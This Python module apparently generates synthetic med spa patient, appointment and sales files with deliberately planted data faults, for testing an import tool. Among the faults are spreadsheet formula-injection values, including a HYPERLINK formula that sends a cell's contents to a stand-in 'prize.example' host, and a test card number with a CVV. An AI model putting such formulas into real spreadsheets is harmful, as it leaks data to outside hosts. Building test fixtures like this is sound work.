"""The US med spa's reports, as Jane writes them, with what is wrong in them."""

import random
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

from sample_data.generator import faults as f
from sample_data.generator.columns import US
from sample_data.generator.courses import Visit
from sample_data.generator.draws import chance, pick, rng, us_other_phone
from sample_data.generator.facts import spell_phone
from sample_data.generator.faults import Faults
from sample_data.generator.medical import health_of
from sample_data.generator.people import Person
from sample_data.generator.rows_care import patient_number
from sample_data.generator.world import World
from sample_data.generator.writing import csv_text, write, xlsx_bytes

PATIENTS, APPOINTMENTS, SALES = "Patients.xlsx", "Appointments.csv", "Sales.csv"
_DENVER = ZoneInfo("America/Denver")
_UTC = ZoneInfo("UTC")
Rows = list[dict[str, Any]]


def utc(local: datetime) -> str:
    """The moment as Jane writes it."""
    return f"{local.replace(tzinfo=_DENVER).astimezone(_UTC):%Y-%m-%d %H:%M:%S} UTC"


def write_patients(world: World, folder: Path, faults: Faults) -> dict[str, list[int]]:
    """Writes Patients.xlsx; gives the rows of each client by guid."""
    rows = [_patient(world, person) for person in world.people]
    for person in world.people:
        rows += _second_rows(world, person)
    where: dict[str, list[int]] = {}
    for place, row in enumerate(rows, 1):
        where.setdefault(row["true_guid"], []).append(place)
        _spoil(row, place, faults)
    _plant_numbers(rows, faults)
    faults.rows[f"{PATIENTS}!Patients"] = len(rows)
    write(folder / PATIENTS, xlsx_bytes({"Patients": (US[f"{PATIENTS}!Patients"], rows)}))
    return where


def _patient(world: World, person: Person) -> dict[str, Any]:
    draw = rng(world.seed, "patient", person.n)
    course, health, relative = world.courses[person.n], health_of(person), person.relatives[0]
    first, last = course.visits[0], course.attended[-1]
    left = date(2024, 2, 2) if person.role == "old_record" else None
    phone = spell_phone(draw, person.phone, "us")
    return {
        "true_guid": person.guid, "digits": person.phone, "role": person.role, "last_day": last.day, "true_born": person.born,
        "guid": person.guid, "number": patient_number(person), "first": person.first,
        "middle": draw.choice(["", "", "Lee", "Ann", "J."]), "last": person.last,
        "known": person.known, "email": person.email, "mobile": phone, "home": person.phone2,
        "work": us_other_phone(person.n % 90) if chance(draw, 0.1) else "", "born": person.born,
        "street": person.street, "line2": person.line2, "city": person.city,
        "state": person.region, "zip": person.postcode, "country": "United States",
        "sex": {"F": "Female", "M": "Male", "X": "X"}[person.sex],
        "pronouns": {"X": "they/them"}.get(person.sex, ""), "occupation": person.job,
        "employer": person.employer, "since": first.day, "first_visit": utc(first.start),
        "last_visit": utc(last.start), "active": "false" if left else "true", "discharged": left,
        "deceased": last.day + timedelta(days=60) if person.role == "deceased" else None,
        "marketing": "No" if person.role == "unsubscribed"
        else pick(draw, ("Yes", 5), ("No", 3), ("", 2)),
        "doctor": person.doctor, "doctor_phone": us_other_phone(100 + person.n % 50),
        "contact": relative.name, "contact_phone": relative.phone,
        "contact_relation": relative.relation.capitalize(),
        "alert": f"ALLERGY: {health.allergies[0][0]}" if health.allergies else "",
    }  # fmt: skip


def _second_rows(world: World, person: Person) -> Rows:
    guid = str(person.guid[:-4] + "0a0b")
    changes: dict[str, dict[str, Any]] = {
        "double_exact": {"known": ""},
        "double_phone": {"email": "", "mobile": f"+1{person.phone}"},
        "double_review": {"email": "", "born": None},
        "double_nickname": {"first": "Peggy", "known": "", "email": "", "born": None},
    }
    if person.role not in changes:
        return []
    own = {"guid": guid, "number": f"{9000 + person.n:07d}", "role": f"{person.role}_2"}
    return [_patient(world, person) | changes[person.role] | own]


def _spoil(row: dict[str, Any], place: int, faults: Faults) -> None:
    """Changes one row by its client's role, and writes down what was done."""
    plan: dict[str, tuple[dict[str, Any], str, str, str]] = {
        "partial_year": ({"born": str(row["true_born"].year)}, "partial birthday", f.KEPT,
                         "only the year is known"),
        "partial_no_year": ({"born": "05-17"}, "partial birthday", f.KEPT, "the year is missing"),
        "age_unknown": ({"born": None}, "age unknown", f.KEPT, "no birth date anywhere"),
        "impossible_birth": ({"born": "02/31/1988"}, "impossible date", f.QUARANTINE,
                             "31 February"),
        "birth_after_visit": ({"born": row["last_day"] + timedelta(days=1)}, "birth after treatment",
                              f.QUARANTINE, "born after every visit"),
        "future_birth": ({"born": date(2031, 8, 14)}, "future birth date", f.QUARANTINE,
                         "not born yet"),
        "bad_email": ({"email": "call-me@"}, "e-mail invalid", f.WARNING, "no domain"),
        "bad_phone": ({"mobile": "555-01"}, "phone invalid", f.WARNING, "too short"),
        "bad_postcode": ({"zip": 6511, "city": "New Haven", "state": "CT"},
                         "ZIP with lost leading zero", f.WARNING, "06511 stored as a number"),
        "zip_plus_4": ({"zip": "80831-0042", "occupation": "N/A", "employer": "NA"}, "ZIP+4",
                       f.KEPT, "nine digits; and N/A as an occupation"),
        "canadian": ({"zip": "K1A 0B1", "country": "Canada", "city": "Ottawa", "state": "ON"},
                     "Canadian code", f.KEPT, "a right code of another country"),
        "formula": ({"employer": '=HYPERLINK("http://prize.example/?q="&C2,"Open")',
                     "occupation": "@SUM(1+1)*cmd", "line2": "+1 Annex"}, "formula cells", f.KEPT,
                    "text that a spreadsheet would run"),
        "phone_escape": ({"mobile": f"'+1{row['digits']}", "home": "\\+14065550107"},
                         "phone escapes", f.KEPT, "apostrophe and backslash before the plus"),
        "card_in_note": ({"alert": "card on file 4111 1111 1111 1111 cvv 123"},
                         "card number in a field", f.MASKED, "a full card number and its code"),
        "unsubscribed": ({}, "marketing unsubscribed", f.KEPT, "no marketing, all else allowed"),
        "null": ({}, "surname Null", f.KEPT, "a name, not a missing value"),
        "rtl": ({}, "right-to-left name", f.KEPT, "a name"),
        "zero_width": ({}, "zero-width characters", f.KEPT, "invisible letters"),
        "combining": ({}, "combining characters", f.KEPT, "the same name in two encodings"),
        "emoji": ({}, "emoji in a name", f.KEPT, "as the client typed it"),
        "double_exact_2": ({}, "one client on two rows", f.KEPT, "same name, birth date and e-mail"),
        "double_phone_2": ({}, "one client on two rows", f.KEPT, "same name, birth date and phone"),
        "double_nickname_2": ({}, "one client on two rows", f.KEPT, "nickname and phone: for review"),
        "double_review_2": ({}, "one client on two rows", f.KEPT, "same name and phone: for review"),
        "twin_b": ({}, "twins", f.KEPT, "same birth date, e-mail and address: two people"),
        "daughter": ({}, "family sharing phone and e-mail", f.KEPT, "mother and daughter"),
        "shared_phone_b": ({}, "family sharing a phone", f.KEPT, "partners: two people"),
        "minor": ({}, "under 18 at treatment", f.KEPT, "adults only here: the visits under 18 wait in quarantine"),
        "turned_18": ({}, "under 18 at treatment", f.KEPT, "came of age between visits: the earlier ones wait in quarantine"),
        "deceased": ({}, "deceased", f.KEPT, "in no case set"),
        "staff": ({}, "staff who is a client", f.KEPT, "in no case set"),
        "shares_with_staff": ({}, "shares address and phone with staff", f.KEPT, "in no case set"),
    }  # fmt: skip
    if row["role"] in plan:
        changes, fault, expect, why = plan[row["role"]]
        row.update(changes)
        faults.add(fault, PATIENTS, f"Patients!{place}", expect, why)


def _plant_numbers(rows: Rows, faults: Faults) -> None:
    faults.add("leading-zero ids", PATIENTS, "Patients!1", f.KEPT, "a patient number is text")
    for place in range(2, min(90, len(rows)), 44):
        rows[place]["number"] = int(rows[place]["number"])
        big = rows[place]["number"] > 2**53
        faults.add("id above 2^53 as a number" if big else "id as a number", PATIENTS,
                   f"Patients!{place + 1}", f.WARNING, "typed into a number cell")  # fmt: skip
    if len(rows) > 4:
        rows[3]["number"] = int(rows[3]["number"])
        faults.add("id as a number", PATIENTS, "Patients!4", f.WARNING, "its zeros are lost")


def _states(visit: Visit, draw: random.Random) -> str:
    return {"attended": "arrived", "no_show": "no_show", "planned": "booked"}.get(
        visit.status, draw.choice(["cancelled", "cancelled", "archived"])
    )


def write_appointments(world: World, folder: Path, faults: Faults) -> None:
    """Writes Appointments.csv: visits and breaks."""
    visits = [(p, v) for p in world.people for v in world.courses[p.n].booked]
    visits.sort(key=lambda pair: (pair[1].start, pair[0].n))
    rows: Rows = []
    for place, (person, visit) in enumerate(visits):
        rows.append(_appointment(world, person, visit))
        if place % 30 == 7:
            rows.append(_break(visit))
            if place < 60:
                faults.add("break without a patient", APPOINTMENTS, len(rows), f.IGNORED,
                           "a break in the schedule")  # fmt: skip
    if len(rows) > 25:
        rows[20]["start"], rows[20]["end"] = rows[20]["end"], rows[20]["start"]
        faults.add("end before start", APPOINTMENTS, 21, f.QUARANTINE, "changed places")
        rows[22]["guid"] = "00000000-0000-4000-8000-00000000dead"
        faults.add("unknown client", APPOINTMENTS, 23, f.QUARANTINE, "no patient has this guid")
    faults.rows[APPOINTMENTS] = len(rows)
    write(folder / APPOINTMENTS, "\ufeff" + csv_text(US[APPOINTMENTS], rows))


def _appointment(world: World, person: Person, visit: Visit) -> dict[str, Any]:
    draw = rng(world.seed, "appointment", visit.id)
    gone = visit.status == "cancelled"
    relative = person.relatives[1]
    reasons = ["sick kid", "work", f"{relative.relation} {relative.name.split()[0]} in hospital",
               "found cheaper", "moved to Pueblo"]  # fmt: skip
    jots = ["", "", "", f"{person.spoken} prefers {visit.staff.known}", "bring consent",
            f"call {person.phone} when room is free"]  # fmt: skip
    return {
        "id": str(9_100_000_000_000_000_001 + int(visit.id) * 3), "state": _states(visit, draw),
        "guid": person.guid, "service": visit.service.name, "start": utc(visit.start),
        "end": utc(visit.start + timedelta(minutes=visit.minutes)), "staff": visit.staff.name,
        "location": "Juniper Mesa",
        "booked": utc(visit.start - timedelta(days=draw.randrange(1, 60), hours=2)),
        "cancelled": utc(visit.start - timedelta(hours=draw.randrange(2, 90))) if gone else "",
        "reason": draw.choice(reasons) if gone else "", "notes": draw.choice(jots),
    }  # fmt: skip


def _break(visit: Visit) -> dict[str, Any]:
    noon = visit.start.replace(hour=12, minute=0)
    return {"id": str(9_100_000_000_900_000_000 + int(visit.id)), "state": "booked",
            "service": "Lunch", "start": utc(noon), "end": utc(noon + timedelta(minutes=45)),
            "staff": visit.staff.name, "location": "Juniper Mesa"}  # fmt: skip


def write_sales(world: World, folder: Path, faults: Faults) -> None:
    """Writes Sales.csv; a changed invoice is a reversal line and a new line."""
    rows: Rows = []
    for person in world.people:
        draw = rng(world.seed, "sales", person.n)
        for visit in world.courses[person.n].attended:
            row = _sale(draw, person, visit, 1 + len(rows))
            rows.append(row)
            if chance(draw, 0.03) and visit.price:
                rows += _changed(row)
                if len(rows) < 400:
                    faults.add("reversal and new line", SALES, len(rows), f.KEPT,
                               "one invoice in three lines")  # fmt: skip
    faults.rows[SALES] = len(rows)
    write(folder / SALES, "\ufeff" + csv_text(US[SALES], rows))


def _money(amount: float) -> str:
    return f"-${-amount:,.2f}" if amount < 0 else f"${amount:,.2f}"


def _sale(draw: random.Random, person: Person, visit: Visit, place: int) -> dict[str, Any]:
    price = float(visit.price * max(1, len(visit.lines)))
    paid = pick(draw, (1.0, 9), (0.5, 0.6), (0.0, 0.4))
    status = {1.0: "paid", 0.5: "partially_paid", 0.0: "unpaid"}[paid] if price else "no_charge"
    row = {
        "location": "Juniper Mesa", "date": visit.day.isoformat(), "invoiced": visit.day.isoformat(),
        "guid": person.guid, "name": person.name, "item": visit.service.name,
        "staff": visit.staff.name, "payer": person.name, "invoice": f"INV-{10000 + place}",
        "category": visit.service.category, "details": f"{len(visit.lines)} area(s)",
        "status": status,
    }  # fmt: skip
    return row | _sums(price, paid)


def _sums(price: float, paid: float) -> dict[str, str]:
    tax = round(price * 0.029, 2)
    total = round(price + tax, 2)
    got = round(total * paid, 2)
    return {"subtotal": _money(price), "tax": _money(tax), "total": _money(total),
            "collected": _money(got), "balance": _money(round(total - got, 2))}  # fmt: skip


def _changed(row: dict[str, Any]) -> Rows:
    keys = ("subtotal", "tax", "total", "collected", "balance")
    back = row | {key: f"-{row[key]}" for key in keys} | {"details": "Reversal"}
    price = round(float(row["subtotal"].replace("$", "").replace(",", "")) * 0.9, 2)
    return [back, row | _sums(price, 1.0) | {"details": "Changed: 10 % courtesy", "status": "paid"}]
